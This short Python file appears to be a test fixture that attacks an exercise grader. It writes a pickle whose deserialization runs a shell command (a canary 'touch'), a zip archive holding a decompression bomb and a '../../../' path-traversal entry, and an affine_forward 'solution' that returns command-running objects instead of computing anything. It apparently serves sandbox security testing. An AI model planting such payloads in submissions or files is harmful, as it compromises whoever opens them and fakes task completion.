# what: archives and pickles in the folder for someone to open
# unit: 00_start_here
# exercise: affine_forward
# score: 0
import io, os, pickle, zipfile
class Bomb:
    def __reduce__(self): return os.system, ("touch {CANARY}.pickle",)
with zipfile.ZipFile("00_start_here.npz", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("y.npy", bytes(10**8)); z.writestr("../../../escape.npy", b"x")
open("result.pkl", "wb").write(pickle.dumps(Bomb()))
class Loud:
    def __reduce__(self): return os.system, ("touch {CANARY}.pickle",)
def affine_forward(x, W, b):
    return np.array([Loud()] * 3, dtype=object), Loud()
